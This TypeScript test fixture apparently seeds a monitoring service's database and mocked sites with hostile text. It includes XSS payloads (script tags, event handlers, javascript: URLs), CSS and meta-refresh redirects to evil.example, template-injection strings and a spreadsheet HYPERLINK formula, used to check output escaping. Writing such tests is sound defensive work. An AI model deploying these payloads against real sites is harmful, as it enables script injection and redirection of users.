import { Pool, type PoolClient } from 'pg'
import type { SeededService } from '../../service/testing/seeded-service.ts'

/** All known ways to make text take effect in a page, an e-mail or a table. `attack` reports that it ran. */
export const hostileText = [
  `"'></td></title></style></textarea><script>attack('script')</script>`,
  `<img src=x onerror="attack('onerror')"><svg onload="attack('onload')"></svg>`,
  `<a href="javascript:attack('link')">x</a><iframe srcdoc="<script>parent.attack('frame')</script>"></iframe>`,
  `<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>`,
  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action=//evil.example/><input autofocus onfocus="attack('focus')"></form>`,
  `url(//evil.example/c);} {{constructor.constructor('attack(1)')()}} \${attack(2)} {client}`,
  `=HYPERLINK("http://evil.example/") \u202Etxt.exe\u2066`,
].join(' ')

const hostileUrl = `javascript:attack('address')//`

/** Columns with a URL that a page may turn into a link. */
const addressColumns = [
  'clients.facebook',
  'clients.instagram',
  'clients.linkedin',
  'clients.twitter',
  'costs.url',
  'perf_audits.final_url',
  'perf_audits.url',
  'perf_results.url',
  'site_updates.url',
  'vulnerabilities.url',
]

/** Tables without text from outside: secrets, locks, counters and internal state. */
const excludedTables = [
  'api_key_addresses',
  'api_key_calls',
  'audit_head',
  'audit_purged',
  'audit_refusals',
  'data_versions',
  'failed_guesses',
  'instance_secrets',
  'migrations',
  'modules',
  'monitor_shares',
  'monitor_workers',
  'provider_secrets',
  'rdap_bootstrap',
  'rdap_pauses',
  'settings',
  'site_leases',
  'site_software_digests',
  'site_search',
  'time_settings',
]

/**
 * Columns whose values our code creates and compares: fixed values, hashes, sealed secrets, parsed addresses. A new text
 * column is treated as hostile until it is listed here.
 */
const excludedColumns =
  /\.(kind|type|service|step|state|status|channel|mail_type|strategy|media_type|source|priority|operation|outcome|health|result|renewal_type|payment_type|license_type|product_type|payment_method|recurrence|timer|timer_mode|task_status|payment_status|time_of_day|role|part|sort|sort_order|translates|connection|suspended_by|digest|fingerprint|seal|hash|password_hash|token_hash|secret|previous_secret|identity|color|icon|icon_url|severity|currency|actor_kind|protocol|leased_by|holder|request_id|ended_by|method|expected_status|period|last_period|cookies|http_pass|private_key|pending_private_key|public_key|regverify|unique_id|login|key|message_key|site_url|subject_key|domain)$|_code$|^(sites|site_domains|site_icons|ssl_checks|notification_webhooks|webhook_endpoints|domain_monitor_settings)\.(url|site_url|source_url|bootstrap_url)$|^domains\.name$|^api_keys\.truncated_key$|^costs\.product_slug$|^cost_choices\.slug$|^audit_lines\.(subject|address)$|^sessions\.address$|^sites\.(admin_username|http_user)$|^report_settings\./

/** Nulls in these columns are filled too: errors, and values not known yet. */
const fillsNull = /reason|error|message|problem|cause|registrar|issuer|cipher|common_name|description|facebook|url/

/** JSON columns with text from outside. */
const jsonColumns = ['perf_audits.findings', 'perf_audits.opportunities', 'sites.facts', 'job_targets.result']

const short = hostileText.slice(0, 90)

/** Rows that the demo lacks, and texts that users enter, created through the operations. */
export async function addHostileRows({
  service: { db, clock },
  run,
}: Pick<SeededService, 'service' | 'run'>): Promise<void> {
  await run('add-product-type', { title: 'Domain' })
  await run('add-payment-method', { title: 'Barter' })
  await run('add-webhook', { url: 'http://127.10.0.1/?"><script>attack(3)</script>' })
  const endpoint = { url: 'http://127.10.0.1/?"><script>attack(4)</script>', description: short }
  const { id: webhookId } = (await run('add-webhook-endpoint', endpoint)) as { id: number }
  await db
    .insertInto('webhook_deliveries')
    .values({
      ...{ webhook_id: webhookId, message_id: 'evt_1', position: 0, type: 'site.added', subject: 'site:1', body: '{}' },
      ...{ state: 'failed', due_at: clock.now(), created_at: clock.now(), status: 500, answer: hostileText },
    })
    .execute()
  await run('update-email-settings', { mail_type: 'uptime', heading: short, subject: short })
  const texts = ['company_name', 'title'] as const
  const longTexts = ['introduction', 'closing', 'footer', 'email_subject', 'email_text'] as const
  await run('update-report-settings', {
    ...Object.fromEntries(texts.map((name) => [name, short])),
    ...Object.fromEntries(longTexts.map((name) => [name, hostileText.slice(0, 190)])),
  })
  const now = clock.now()
  const mailChannel = await db
    .insertInto('notification_channels')
    .values({
      ...{ name: 'a@b.example', service: 'email', target: '', shown: 'a@b.example', mail_type: 'uptime' },
      ...{ owner_kind: 'system', created_at: now },
    })
    .returning('id')
    .executeTakeFirstOrThrow()
  await db
    .insertInto('channel_messages')
    .values({ channel_id: mailChannel.id, title: short, body: '{}', due_at: now, created_at: now, state: 'failed' })
    .execute()
  const { slug } = await db
    .selectFrom('site_software')
    .select('slug')
    .where('site_id', '=', 1)
    .executeTakeFirstOrThrow()
  await db
    .insertInto('vulnerabilities')
    .values({
      source: 'file',
      id: 'CVE-1',
      kind: 'plugin',
      slug,
      title: 'Hole',
      severity: 'high',
      score: 8,
      cve: 'CVE-1',
      url: 'https://cve.example',
      published_on: null,
      fixed_in: null,
      ranges: JSON.stringify([{ from: '*', from_inclusive: true, to: '*', to_inclusive: true }]),
    })
    .execute()
}

/** Writes hostile text to every text column that can be filled from outside. Returns the columns that accepted it. */
export async function poisonDatabase({ service }: Pick<SeededService, 'service'>): Promise<string[]> {
  // Without triggers and foreign keys: columns that refer to each other by text all get the same suffix.
  const pool = new Pool({
    connectionString: service.connectionString,
    max: 1,
    options: '-c session_replication_role=replica',
  })
  const client = await pool.connect()
  try {
    const poisoned: string[] = []
    for (const { name, table, column } of await textColumns(client)) {
      if (await poisonColumn(client, name, table, column)) poisoned.push(name)
    }
    for (const name of jsonColumns) await poisonJson(client, ...(name.split('.') as [string, string]))
    // Site 1 must still answer: these two columns are sent to it.
    await client.query(`update sites set admin_username = $1, http_user = $1 where id > 1`, [hostileText])
    await client.query('update data_versions set version = version + 1')
    await service.app.forgetCaches()
    return [...poisoned, ...jsonColumns]
  } finally {
    client.release()
    await pool.end()
  }
}

async function textColumns(client: PoolClient) {
  const { rows } = await client.query<{ name: string; table: string; column: string }>(
    `select table_name || '.' || column_name as name, table_name as table, column_name as column
     from information_schema.columns join information_schema.tables using (table_schema, table_name)
     where table_schema = 'public' and table_type = 'BASE TABLE' and data_type = 'text' and is_generated = 'NEVER'
     and table_name not in (select relname from pg_class where relispartition)
     order by 1`,
  )
  return rows.filter(({ name, table }) => !excludedTables.includes(table) && !excludedColumns.test(name))
}

/** Returns false if a constraint rejects the text or the table has no rows. */
async function poisonColumn(client: PoolClient, name: string, table: string, column: string): Promise<boolean> {
  const isAddress = addressColumns.includes(name)
  const before = `left(${fillsNull.test(column) ? `coalesce(${column}, '')` : column}, 60)`
  // One row also gets a very long text, except where tables refer to each other by the text.
  const long = /slug|version|language/.test(column)
    ? `''`
    : `case when ctid = (select min(ctid) from ${table}) then repeat('W', 1500) else '' end`
  // The old value stays in front, so that unique columns stay unique.
  const value = isAddress ? `$1 || ${before}` : `${before} || ' ' || $1 || ${long}`
  try {
    const { rowCount } = await client.query(`update ${table} set ${column} = ${value}`, [
      // The URL of a plugin or theme page takes a slug of at most 200 characters.
      isAddress ? hostileUrl : column === 'slug' ? hostileText.slice(0, 130) : hostileText,
    ])
    return (rowCount ?? 0) > 0
  } catch (error) {
    // 23514: check constraint; 54000: too long for an index, which is a limit as well.
    if (['23514', '54000'].includes((error as { code: string }).code)) return false
    throw new Error(`${name}: ${(error as Error).message}`)
  }
}

async function poisonJson(client: PoolClient, table: string, column: string): Promise<void> {
  const { rows } = await client.query<{ at: string; value: unknown }>(
    `select ctid::text as at, ${column} as value from ${table} where ${column} is not null`,
  )
  for (const { at, value } of rows) {
    const text = JSON.stringify(value, (key, each) =>
      typeof each === 'string' && !/(^|_)(id|url|at|status|state)$/.test(key) ? `${each} ${hostileText}` : each,
    )
    await client.query(`update ${table} set ${column} = $1 where ctid = $2::tid`, [text, at])
  }
}

/** What sites answer to live requests: posts, pages, comments and users. */
export function poisonSites({ sites }: Pick<SeededService, 'sites'>): void {
  for (const { site } of sites) {
    site.posts = site.posts.map((post) => ({
      ...post,
      title: `${post.title} ${hostileText}`,
      content: hostileText,
      excerpt: hostileText,
      categories: [...post.categories, hostileText],
      tags: [...post.tags, hostileText],
    }))
    site.comments = site.comments.map((comment) => ({
      ...comment,
      author: `${comment.author} ${hostileText}`,
      url: hostileUrl,
      content: hostileText,
    }))
    site.users = site.users.map((user) => ({
      ...user,
      displayName: `${user.displayName} ${hostileText}`,
      firstName: hostileText,
      lastName: hostileText,
      url: hostileUrl,
      description: hostileText,
    }))
  }
}
